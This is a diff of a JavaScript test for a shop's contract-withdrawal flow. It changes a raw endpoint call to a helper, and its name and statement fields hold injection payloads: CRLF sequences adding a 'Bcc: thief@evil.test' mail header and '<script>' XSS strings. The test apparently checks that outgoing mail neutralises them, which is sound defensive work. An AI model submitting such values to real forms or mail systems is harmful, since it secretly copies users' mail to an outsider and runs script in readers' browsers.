@@ -73,12 +73,9 @@ describe("what people type and pieces are called, wherever it goes", () => {
     const checkout = await w.openCheckout(await w.addPiece());
     await w.pay(checkout.url);
     await sendMails();
-    const { status } = await w.call("withdraw-from-contract", {
-      reference: checkout.reference,
-      email: "maria@example.com",
+    const { status } = await w.withdraw(checkout.reference, {
       name: `Μαρία\r\nBcc: thief@evil.test <script>`,
       statement: `<script>alert(1)</script>\r\nBcc: thief@evil.test`,
-      confirm: true,
     });
     expect(status).toBe(200);
     for (const mail of await sendMails()) {
